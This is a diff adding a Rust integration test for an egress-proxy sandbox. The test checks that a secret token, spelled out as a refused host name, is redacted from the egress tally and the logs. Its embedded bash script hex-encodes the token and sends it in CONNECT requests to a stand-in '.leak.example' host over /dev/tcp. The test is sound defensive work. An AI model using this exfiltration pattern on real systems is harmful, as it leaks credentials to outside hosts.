@@ -578,3 +578,43 @@ fn a_proxy_that_dies_mid_set_up_is_cleaned_up_and_its_tally_kept() {
     assert!(tally.contains("host: blocked.test"), "{tally}\n{}", stderr(&out));
     assert_eq!(leftovers(&p), (String::new(), String::new()));
 }
+
+/// The tally records refused targets as asked, and `egress.yaml` is an artifact of the
+/// day (committed with `.pace/`, listed in summary.md and the MR): a set-up that asks for
+/// `<a sandbox.env secret, in hex>.leak.example` publishes it there, where every other
+/// artifact passes through the redactor (which knows the hex form). The tally must be
+/// redacted like the set-up's output log.
+#[test]
+fn a_secret_spelled_as_a_refused_host_name_is_redacted_from_the_tally() {
+    require_docker!();
+    let Some(image) = debian() else { return };
+    let outside = Outside::start(&format!("{:x}s", std::process::id()));
+    let script = r#"#!/bin/bash
+proxy=${HTTP_PROXY#http://}
+hex=$(printf %s "$RED3_TOKEN" | od -An -tx1 | tr -d ' \n')
+for target in "$hex.leak.example:443" "$RED3_TOKEN.leak.example:443"; do
+  exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}"
+  printf 'CONNECT %s HTTP/1.1\r\n\r\n' "$target" >&3
+  timeout 5 head -c 12 <&3; echo
+  exec 3<&-
+done
+"#;
+    let p = project(&outside, &image, script, 120);
+    let config = p.read("pace.config.yaml").replace(
+        "  egress: [allowed.test]",
+        "  egress: [allowed.test]\n  env: [RED3_TOKEN]",
+    );
+    std::fs::write(p.path("pace.config.yaml"), config).unwrap();
+    p.git(&["commit", "-qam", "env"]);
+    let secret = "r3dt3amtok3nabcdef0123456789";
+    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
+    let out = p.pace_gate().env("RED3_TOKEN", secret).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
+    let tally = p.read(".pace/egress.yaml");
+    assert!(tally.contains(".leak.example"), "the requests were made: {tally}");
+    for needle in [secret, hex.as_str()] {
+        assert!(!tally.contains(needle), "egress.yaml carries the secret:\n{tally}");
+        assert!(!stdout(&out).contains(needle) && !stderr(&out).contains(needle));
+    }
+    assert!(tally.contains("[REDACTED].leak.example"), "{tally}");
+}
